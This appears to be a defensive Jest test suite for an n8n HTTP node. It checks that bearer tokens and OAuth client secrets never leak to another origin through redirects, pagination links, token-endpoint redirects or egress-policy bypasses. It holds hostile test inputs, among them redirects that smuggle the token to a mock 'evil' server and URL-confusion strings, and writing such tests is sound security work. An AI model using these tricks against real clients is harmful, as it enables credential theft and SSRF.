/**
 * The token only ever goes to the credential's API origin: redirects, URL tricks, pagination links, a redirecting
 * token endpoint, and n8n's egress policy on every hop.
 */
import { bearerOf, type HostileServer, hostileClient, startHostileServer } from '../helpers/hostileServer';
import { dump, errorOf, paired, run } from './hostile';
import { CATEGORY } from '../../nodes/JasRequest/routing';

describe('the token never reaches another origin', () => {
	let api: HostileServer; let evil: HostileServer;
	beforeAll(async () => { api = await startHostileServer(); evil = await startHostileServer(); });
	afterAll(async () => { await api.close(); await evil.close(); });

	test('O1 redirects to another port, to localhost alias, to https, to userinfo, 307 POST, chains back: evil never sees Authorization', async () => {
		const port = new URL(api.url).port;
		evil.handle = (req, res, url) => {
			if (url.pathname === '/back') { res.writeHead(307, { Location: `${api.url}/final` }); return void res.end(); }
			res.writeHead(200, { 'Content-Type': 'application/json' }); res.end(JSON.stringify({ got: req.headers.authorization ?? null }));
		};
		api.handle = (req, res, url) => {
			const targets: Record<string, string> = {
				'/r1': `${evil.url}/x`,
				'/r2': `http://localhost:${port}/final`,
				'/r3': `http://user:${encodeURIComponent(bearerOf(req))}@127.0.0.1:${new URL(evil.url).port}/u`,
				'/r4': `${evil.url}/back`,
				'/r5': `//127.0.0.1:${new URL(evil.url).port}/proto-rel`,
				'/r6': `http://127.0.0.1:${new URL(evil.url).port}\\@127.0.0.1:${port}/confuse`,
				'/r7': `HTTP://127.0.0.1:${new URL(evil.url).port}/upper`,
			};
			if (targets[url.pathname]) { req.resume(); res.writeHead(url.pathname === '/r4' ? 307 : 302, { Location: targets[url.pathname] }); return void res.end(); }
			res.writeHead(200, { 'Content-Type': 'application/json' }); res.end(JSON.stringify({ got: req.headers.authorization ? 'auth' : null }));
		};
		const before = evil.lastAuth.length;
		const r = await run(api, ['/r1', '/r2', '/r3', '/r4', '/r5', '/r6', '/r7'].map((path) => ({ path })), { method: 'POST', bodyType: 'json', jsonBody: '{}', options: { retryNonIdempotent: false } });
		expect(evil.lastAuth.slice(before).filter(Boolean)).toEqual([]);
		expect(r.outputs.flatMap(paired).sort()).toEqual([0, 1, 2, 3, 4, 5, 6]);
	});

	test('O2 URL parameter tricks: absolute other origin, //host, \\\\host, @host, tab/newline, encoded: never reach evil', async () => {
		const ep = new URL(evil.url).port;
		const paths = [`${evil.url}/a`, `//127.0.0.1:${ep}/b`, `\\\\127.0.0.1:${ep}/c`, `@127.0.0.1:${ep}/d`, `/\t/127.0.0.1:${ep}/e`, `http:127.0.0.1:${ep}/f`, `http:/127.0.0.1:${ep}/g`, ` ${evil.url}/h`, `\u0001${evil.url}/i`, `HtTp://127.0.0.1:${ep}/j`];
		const before = evil.apiRequests;
		const r = await run(api, paths.map((path) => ({ path })), {}, { onError: 'continueRegularOutput' });
		expect(evil.apiRequests - before).toBe(0);
		expect(r.outputs.flatMap(paired).sort((a, b) => a - b)).toEqual(paths.map((_, i) => i));
	});

	test('O3 pagination next/Link to other origin, or via a redirect to evil then relative next: token never at evil', async () => {
		const before = evil.lastAuth.length;
		evil.handle = (_req, res) => { res.writeHead(200, { 'Content-Type': 'application/json', Link: '</evil-p2>; rel="next"' }); res.end(JSON.stringify({ next: '/evil-p2', items: [] })); };
		api.handle = (_req, res, url) => {
			if (url.pathname === '/p1') { res.writeHead(200, { 'Content-Type': 'application/json', Link: `<${evil.url}/p2>; rel="next"` }); return void res.end(JSON.stringify({ next: `${evil.url}/p2` })); }
			if (url.pathname === '/hop') { res.writeHead(302, { Location: `${evil.url}/list` }); return void res.end(); }
			res.end('{}');
		};
		await run(api, [{ path: '/p1' }, { path: '/hop' }], { paginationMode: 'nextUrl', nextUrlField: 'next', maxPages: 5 });
		await run(api, [{ path: '/p1' }, { path: '/hop' }], { paginationMode: 'linkHeader', maxPages: 5 });
		await run(api, [{ path: '/hop' }], { paginationMode: 'offset', itemsField: 'items', pageSize: 0, maxPages: 5 });
		expect(evil.lastAuth.slice(before).filter(Boolean)).toEqual([]);
	});

	test('O4 token endpoint answering 301/302/307/308 to an attacker: attacker never gets the client secret (node path)', async () => {
		const cl = hostileClient();
		let posted = 0;
		const attacker = await startHostileServer();
		attacker.handle = (req, res) => { req.on('data', (c: Buffer) => { if (c.toString().includes(encodeURIComponent(cl.clientSecret)) || c.toString().includes(cl.clientSecret)) posted++; }); req.on('end', () => res.end('{"access_token":"attacker-token-123456","token_type":"Bearer"}')); };
		const tokenSrv = await startHostileServer();
		tokenSrv.tokenHandle = (req, res, url) => { req.resume(); const st = [301, 302, 307, 308][Number(url.searchParams.get('s'))]; res.writeHead(st, { Location: `${attacker.url}/steal` }); res.end(); };
		try {
			for (const i of [0, 1, 2, 3]) {
				const r = await run(api, [{ path: '/x' }], {}, { credentials: { baseUrl: api.url, tokenUrl: `${tokenSrv.url}/oauth2/token?s=${i}`, ...cl } });
				expect(errorOf(r.outputs[CATEGORY.authError][0]).message).toMatch(/never follow redirects/);
			}
			expect(posted).toBe(0);
		} finally { await attacker.close(); await tokenSrv.close(); }
	});
});

describe("n8n's egress policy holds on every redirect hop", () => {
	test('R2 egress policy: a redirect hop to a blocked host is refused, the blocked host never contacted, message scrubbed', async () => {
		const s = await startHostileServer(); const evil = await startHostileServer();
		s.handle = (req, res) => { res.writeHead(302, { Location: `${evil.url}/x?t=${encodeURIComponent(bearerOf(req))}` }); res.end(); };
		const egress = {
			validateUrl: async (u: string) => (u.startsWith(evil.url) ? { ok: false, error: Object.assign(new Error(`blocked ${u}`), { name: 'SsrfBlockedIpError' }) } : { ok: true }),
			validateRedirectSync: (u: string) => { if (u.startsWith(evil.url)) throw Object.assign(new Error(`redirect blocked ${u}`), { name: 'SsrfBlockedIpError' }); },
		};
		try {
			const r = await run(s, [{ path: '/go' }], { options: { maxRetries: 0 } }, { helpersOverride: { getSecureEgressFilter: () => egress } as never });
			expect(evil.apiRequests).toBe(0);
			expect(r.outputs.flat()).toHaveLength(1);
			expect(dump(r)).not.toContain(encodeURIComponent(s.tokens[0]));
		} finally { await s.close(); await evil.close(); }
	});
});
